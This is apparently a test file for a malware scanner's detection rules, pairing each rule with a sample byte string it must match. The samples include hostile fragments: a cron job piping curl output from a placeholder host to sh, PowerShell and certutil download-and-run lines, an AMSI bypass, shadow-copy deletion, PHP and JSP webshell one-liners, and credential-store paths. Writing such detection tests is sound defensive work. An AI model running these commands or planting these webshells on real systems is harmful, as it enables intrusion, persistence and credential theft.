import assert from 'node:assert/strict';
import { globSync, readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { unXor } from '../../src/analysis/codecs/xor-search.ts';
import { loadRuleSources } from '../../src/analysis/rules/rule-files.ts';
import { openRules, ruleTags } from '../../src/analysis/rules/rules.ts';

type Content = readonly (string | Buffer)[];

/** Strings of the rules after the first bytes of a file format. None is executable. */
const text = (...parts: Content) => together('', parts);
const pe = (...parts: Content) => together('MZ\x90\0', parts);
const elf = (...parts: Content) => together('\x7fELF', parts);
const widePe = (...parts: readonly string[]) =>
  pe(...parts.map((part) => Buffer.from(part, 'utf16le')));

function together(magic: string, parts: Content): Buffer {
  const pieces = parts.map((part) =>
    typeof part === 'string' ? Buffer.from(part, 'latin1') : part,
  );
  return Buffer.concat([
    Buffer.from(magic, 'latin1'),
    ...pieces.flatMap((one) => [Buffer.alloc(2), one]),
  ]);
}

const large = Buffer.alloc(9000, 'QUJD');
const BUNDLE = Buffer.from('4d45490c0b0a0b0e', 'hex');
const wide = (...texts: readonly string[]) => texts.map((one) => Buffer.from(one, 'utf16le'));
/** With the start of .NET metadata. */
const dotnet = (...parts: Content) => pe(...parts, 'BSJB\x01\0\x01\0');

/** For each rule, the minimum that it must match. */
const SAMPLES: Readonly<Record<string, Buffer>> = {
  'persistence/run_key': pe('Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'RegSetValueExW'),
  'persistence/scheduled_task': text('schtasks /create /tn x /tr y /sc minute /mo 1'),
  'persistence/startup_folder': widePe('\\Start Menu\\Programs\\Startup\\x.lnk', 'CopyFile'),
  'persistence/image_file_execution_options': pe(
    '\\Image File Execution Options\\',
    'sethc.exe',
    'Debugger',
  ),
  'persistence/wmi_subscription': text(
    'Set-WmiInstance __EventFilter CommandLineEventConsumer __FilterToConsumerBinding',
  ),
  'persistence/winlogon_shell': text(
    'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit /d "userinit.exe,x.exe"',
  ),
  'persistence/cron_download': text(
    '(crontab -l; echo "*/5 * * * * curl http://a.example.invalid/x | sh") | crontab -',
  ),
  'persistence/authorized_keys': text(
    'echo "ssh-rsa AAAAB3NzaC1yc2EAAAA" >> /root/.ssh/authorized_keys',
  ),
  'persistence/preloaded_library': elf(
    '/etc/ld.so.preload',
    'dlsym',
    'readdir64',
    'pam_authenticate',
    '/proc/net/tcp',
  ),
  'injection/remote_thread': pe(
    'OpenProcess',
    'VirtualAllocEx',
    'WriteProcessMemory',
    'CreateRemoteThread',
  ),
  'injection/process_hollowing': pe(
    'CreateProcessA',
    'NtUnmapViewOfSection',
    'WriteProcessMemory',
    'SetThreadContext',
    'ResumeThread',
  ),
  'injection/reflective_loader': pe('_ReflectiveLoader@4', 'VirtualAlloc'),
  'injection/powershell_shellcode': text(
    'Add-Type $x; VirtualAlloc; [Runtime.InteropServices.Marshal]::Copy($b); GetDelegateForFunctionPointer',
  ),
  'injection/python_shellcode': text(
    'ctypes.windll.kernel32.VirtualAlloc RtlMoveMemory CreateThread',
  ),
  'injection/macro_shellcode': text(
    'Declare PtrSafe Function VirtualAlloc RtlMoveMemory CreateThread Sub AutoOpen()',
  ),
  'injection/remote_mapping': pe(
    'NtCreateSection',
    'NtMapViewOfSection',
    'OpenProcess',
    'NtQueueApcThread',
  ),
  'evasion/amsi_bypass': text(
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')",
  ),
  'evasion/etw_bypass': pe('EtwEventWrite', 'ntdll.dll', 'VirtualProtect', 'WriteProcessMemory'),
  'evasion/defender_tampering': text('powershell Add-MpPreference -ExclusionPath C:\\'),
  'evasion/virtual_machine_checks': widePe('vmtoolsd', 'VBoxService', 'SbieDll.dll', 'qemu-ga'),
  'evasion/analysis_tools': text('wireshark,procmon,x64dbg,ollydbg,dnspy'),
  'evasion/uac_bypass': text('fodhelper.exe Software\\Classes\\ms-settings\\shell\\open\\command'),
  'evasion/log_clearing': text('wevtutil cl System & wevtutil cl Security'),
  'evasion/policy_tampering': pe(
    'Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System',
    'DisableTaskMgr',
    'DisableRegistryTools',
    'SetValue',
  ),
  'evasion/hidden_powershell': text('powershell -w hidden -ep bypass -c x'),
  'evasion/critical_process': pe('RtlSetProcessIsCritical', 'SeDebugPrivilege'),
  'evasion/self_deletion': text('cmd /c ping 127.0.0.1 -n 3 > nul & del "%0"'),
  'credential-access/lsass_dump': pe(
    'lsass.exe',
    'MiniDumpWriteDump',
    'OpenProcess',
    'SeDebugPrivilege',
  ),
  'credential-access/registry_hives': text('reg save hklm\\sam a & reg save hklm\\system b'),
  'credential-access/chromium_credentials': widePe(
    '\\Google\\Chrome\\User Data',
    '\\Microsoft\\Edge\\User Data',
    'Login Data',
    'encrypted_key',
  ),
  'credential-access/mozilla_credentials': widePe(
    '\\Mozilla\\Firefox\\Profiles',
    '\\Thunderbird\\Profiles',
    'logins.json',
    'encryptedPassword',
  ),
  'credential-access/discord_tokens': text('discordcanary\\Local Storage\\leveldb', 'dQw4w9WgXcQ:'),
  'credential-access/wallet_files': text(
    'exodus.wallet Electrum\\wallets Ethereum\\keystore atomic\\Local Storage',
  ),
  'credential-access/file_transfer_clients': text(
    'FileZilla\\recentservers.xml WinSCP 2\\Sessions FTPWare\\COREFTP',
  ),
  'credential-access/key_logging': pe(
    'GetAsyncKeyState',
    'GetForegroundWindow',
    '[ENTER]',
    '[BACKSPACE]',
    '[TAB]',
  ),
  'credential-access/wireless_passwords': text('netsh wlan show profile name="x" key=clear'),
  'credential-access/cloud_credentials': text(
    '.aws/credentials .docker/config.json .kube/config .git-credentials curl -F',
  ),
  'stealers/telegram_upload': text('https://api.telegram.org/bot', '/sendDocument', 'chat_id'),
  'stealers/discord_upload': text(
    'https://discord.com/api/webhooks/1/x',
    'payload_json',
    'COMPUTERNAME',
  ),
  'stealers/telegram_session': text('\\Telegram Desktop\\tdata', 'D877F783D5D3EF8C'),
  'stealers/game_sessions': text('\\config\\loginusers.vdf ssfn* launcher_profiles.json'),
  'stealers/clipboard_swap': pe('SetClipboardData', '0x[a-fA-F0-9]{40}', '(bc1|[13])'),
  'stealers/python_grabber': text(
    'import os',
    'win32crypt CryptUnprotectData os_crypt LOCALAPPDATA',
    'api/webhooks/',
  ),
  'ransomware/shadow_copies': text('vssadmin.exe Delete Shadows /All /Quiet'),
  'ransomware/recovery_off': text('bcdedit /set {default} recoveryenabled no'),
  'ransomware/ransom_note': text(
    'Your files have been encrypted. Send Bitcoin. Install Tor Browser. Do not rename files.',
  ),
  'ransomware/services_stopped': text('sqlservr MSExchange QBIDPService sqlwriter agntsvc'),
  'ransomware/hypervisor_encryption': elf('esxcli vm process kill --type=force', '.vmdk'),
  'droppers/powershell_download': text(
    "IEX (New-Object Net.WebClient).DownloadString('http://a.example.invalid')",
  ),
  'droppers/tool_download': text('certutil.exe -f -urlcache http://a.example.invalid/x y'),
  'droppers/tool_execution': text('mshta http://a.example.invalid/x.hta'),
  'droppers/script_download': text('WScript.Shell ADODB.Stream SaveToFile MSXML2.XMLHTTP'),
  'droppers/linux_loader': text(
    'cd /tmp; wget http://a.example.invalid/mips; chmod 777 mips\ncurl -O http://a.example.invalid/arm7; rm -rf *',
  ),
  'droppers/html_smuggling': text(
    '<html>atob( new Blob( createObjectURL a.download a.click()',
    large,
  ),
  'droppers/batch_payload': text('@echo off\n%~f0 FromBase64String GZipStream', large),
  'droppers/embedded_executable_text': text(`TVqQAAMAAAAEAAAA//8AALgAAAA${'A'.repeat(60)}`),
  'webshells/php_eval': text("<?php @eval($_POST['x']);"),
  'webshells/php_packed': text("<?php eval(gzinflate(base64_decode('x')));"),
  'webshells/jsp_command': text('<% Runtime.getRuntime().exec(request.getParameter("c")) %>'),
  'webshells/asp_command': text('<%eval(Request.Item["x"],"unsafe");%>'),
  'webshells/known_webshell': text('<?php /* c99shell */ shell_exec passthru'),
  'miners/mining_pool': text('stratum+tcp://pool.example.invalid:3333'),
  'miners/xmrig': text('xmrig --donate-level 1 --cpu-max-threads-hint=50'),
  'miners/hidden_miner': text('xmrig; pkill -f kdevtmpfsi; chattr -i /etc/x'),
  'packers/confuserex': pe('_CorExeMain', 'ConfusedByAttribute'),
  'packers/dotnet_reactor': pe(
    'mscoree.dll',
    Buffer.from('is protected by an unregistered version of .NET Reactor', 'utf16le'),
  ),
  'packers/vmprotect': pe('.vmp0\0\0\0'),
  'packers/themida': pe('.themida'),
  'packers/enigma_protector': pe('.enigma1', '.enigma2'),
  'packers/mpress': pe('.MPRESS1', '.MPRESS2'),
  'packers/autoit': pe('AU3!EA06', 'This is a third-party compiled AutoIt script.'),
  'packers/python_bundle': pe('_MEIPASS', BUNDLE),
  'packers/broken_upx': elf('$Info: This file is packed with the UPX executable packer'),
  'families/asyncrat': dotnet(
    'Serversignature',
    'Pastebin',
    'Anti_Analysis',
    'NormalStartup',
    'ClientSocket',
  ),
  'families/dcrat': dotnet(...wide('DcRatByqwqdanchun'), 'Por_ts', 'Hos_ts'),
  'families/venomrat': dotnet(...wide('VenomRATByVenom'), 'Por_ts', 'Hos_ts'),
  'families/xworm': dotnet(...wide('<Xwormmm>', 'PCShutdown', 'StartDDos'), 'System.Net.Sockets'),
  'families/njrat': dotnet(
    ...wide('SEE_MASK_NOZONECHECKS', 'netsh firewall add allowedprogram "'),
    ...wide("|'|'|", 'Execute ERROR'),
    'System.Net.Sockets',
  ),
  'families/quasarrat': dotnet('Quasar.Client', 'DoShellExecuteResponse', 'ReverseProxyConnect'),
  'families/xenorat': dotnet(
    ...wide('nothingset', 'XenoUpdateManager'),
    'Type0Receive',
    'System.Net.Sockets',
  ),
  'families/redline': dotnet(
    'ScannedBrowser',
    'ScannedFile',
    'ScanResult',
    ...wide('net.tcp://', 'Authorization'),
    'System.ServiceModel',
  ),
  'families/snake_keylogger': widePe('$%TelegramDv$', '$%SMTPDV$'),
  'families/vip_keylogger': dotnet(
    ...wide('Pc Name: x | VIP Recovery', '$%TelegramDv$', '$%SMTPDV$'),
    'System.Net.Mail',
  ),
  'families/masslogger': dotnet(
    ...wide('MassLogger Started:', 'MassLogger Process:', 'Keylogger And Clipboard'),
    'FtpWebRequest',
  ),
  'families/remcos': pe(
    'Remcos restarted by watchdog!',
    'Watchdog launch failed!',
    'licence_code.txt',
  ),
  'families/cobaltstrike': text(
    unXor(Buffer.from('00010001000200080002000100021f9000030002000400000bb8', 'hex'), 0x2e),
  ),
  'families/meterpreter': pe('core_channel_open', 'core_machine_id', 'core_loadlib'),
  'families/sliver': elf('github.com/bishopfox/sliver/x', 'sliverpb', 'BeaconRegister'),
  'families/mirai': elf(
    ...['applet not found', '/proc/net/tcp', 'listening tun0'].map((one) =>
      unXor(Buffer.from(one), 0x22),
    ),
  ),
  'families/gafgyt': elf('LOLNOGTFO', 'UDP Flooding %s', 'None Killed.'),
  'families/nanocore': dotnet(
    'NanoCore.ClientPluginHost',
    'IClientNetworkHost',
    'IClientLoggingHost',
  ),
  'families/systembc': text(
    'BEGINDATA\0HOST1:a.example.invalid\0HOST2:b.example.invalid\0PORT1:4001\0',
  ),
  'families/strrat': together('PK\x03\x04', [
    'carLambo/Main.class',
    `PK\x03\x04${'\0'.repeat(26)}carLambo/resources/config.txt`,
    'PK\x05\x06',
  ]),
  'families/lumma': pe('LummaC2', 'act=recive_message', '&lid='),
  'families/stealc': pe(...wide('C:\\builder_v2\\stealc\\json.h'), 'steal_winscp'),
  'families/winos': widePe('denglupeizhi', 'IpDates_info'),
  'families/blank_grabber': pe('blank.aes', 'loader-o', BUNDLE),
  'families/warzone': widePe('AVE_MARIA', 'warzone160'),
  'families/mimikatz': widePe('sekurlsa', 'gentilkiwi', 'kuhl_m_x', 'logonpasswords'),
  'families/wannacry': pe('WANACRY!', 'WNcry@2ol7', 'tasksche.exe'),
  'families/lockbit': widePe('Restore-My-Files.txt', 'LockBit', 'lockbitsupp'),
  'families/orcus': pe('Orcus.Plugins', 'Orcus.Commands.x'),
  'families/eicar': Buffer.from(
    ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!', 'H+H*'].join('$'),
  ),
};

const { sources } = loadRuleSources();
const rules = await openRules(sources);
const declared = sources.flatMap(({ name, text: source }) =>
  [...source.matchAll(/^rule (\w+)/gm)].map(([, rule]) => `${name}/${rule}`),
);

function matchesOf(bytes: Uint8Array): string[] {
  return rules.scan(bytes).map(({ namespace, rule }) => `${namespace}/${rule}`);
}

describe('our rules', () => {
  it('compile without an error or a warning', () => {
    assert.deepEqual(rules.problems, []);
    assert.deepEqual(rules.warnings, []);
  });

  it('each have a sample in this test', () => {
    assert.deepEqual(Object.keys(SAMPLES).sort(), [...declared].sort());
  });

  for (const [rule, sample] of Object.entries(SAMPLES)) {
    it(`find ${rule}`, () => {
      assert.ok(matchesOf(sample).includes(rule), `${matchesOf(sample)}`);
    });
  }

  it('name no family in a program with its strings alone', () => {
    const texts = Object.entries(SAMPLES).filter(([rule]) =>
      /\/(?:xworm|njrat|redline|xenorat|vip_keylogger)$/.test(rule),
    );
    for (const [rule, sample] of texts) {
      const [native, silent] = ['BSJB', 'System.'].map((part) =>
        sample.toString('latin1').replace(part, '-'),
      );
      for (const program of [native, silent])
        assert.deepEqual(matchesOf(Buffer.from(program ?? '', 'latin1')), [], rule);
    }
    const scanner = dotnet('Remcos v', 'Watchdog launch failed!', 'licence_code.txt');
    assert.deepEqual(matchesOf(scanner), []);
  });

  it('have a tag, a heat and a reason, in the spelling of tags', () => {
    for (const [rule, sample] of Object.entries(SAMPLES)) {
      const match = rules.scan(sample).find((one) => `${one.namespace}/${one.rule}` === rule);
      assert.ok(match !== undefined);
      assert.ok(String(match.meta['description'] ?? '').length > 10, rule);
      assert.ok('family' in match.meta || ('tag' in match.meta && 'heat' in match.meta), rule);
      for (const { name, heat } of ruleTags(match)) {
        assert.match(name, /^[A-Z0-9_.-]+$/);
        assert.ok(heat <= (rule.startsWith('families/') ? 9 : 8), rule);
      }
    }
  });

  it('name no family by a part of its sample, or by its strings in an article', () => {
    for (const [rule, sample] of Object.entries(SAMPLES)) {
      if (!rule.startsWith('families/')) continue;
      const half = matchesOf(sample.subarray(0, sample.length / 2));
      assert.ok(!half.includes(rule), rule);
      const other = Object.keys(SAMPLES).filter(
        (one) => one.startsWith('families/') && one !== rule,
      );
      assert.deepEqual(
        matchesOf(sample).filter((one) => other.includes(one)),
        [],
        rule,
      );
    }
  });

  it('name no family in their own sources and documents', () => {
    const root = fileURLToPath(new URL('../../', import.meta.url));
    const written = globSync(
      '{rules/*,docs/extending/*,src/analysis/extractors/**/*.ts,test/analysis/rules.test.ts}',
      {
        cwd: root,
      },
    );
    assert.ok(written.length > 50);
    const texts = written.map((file) => [file, readFileSync(root + file)] as const);
    const readme = 'Blank Grabber\nBy Blank-c, https://github.com/Blank-c/Blank-Grabber\n';
    for (const [name, bytes] of [...texts, ['a page', Buffer.from(readme)] as const]) {
      const families = rules.scan(bytes).filter(({ meta }) => 'family' in meta);
      assert.deepEqual(
        families.map(({ rule }) => rule),
        [],
        name,
      );
    }
  });

  it('find nothing worth a heat of five in the packages of our dependencies', () => {
    const root = fileURLToPath(new URL('../../node_modules/', import.meta.url));
    const files = globSync(
      '{fastify,zod,kysely,pkijs,yauzl,cfb,pino,ws,wasmagic,7z-wasm,@virustotal/yara-x,ajv}/**/*.{js,cjs,wasm,json,md}',
      { cwd: root },
    );
    const step = Math.ceil(files.length / 150);
    const picked = files.sort().filter((_, index) => index % step === 0);
    for (const file of picked) {
      const hot = rules.scan(readFileSync(root + file)).flatMap((match) => ruleTags(match));
      assert.deepEqual(
        hot.filter(({ heat }) => heat >= 5),
        [],
        file,
      );
    }
  });
});
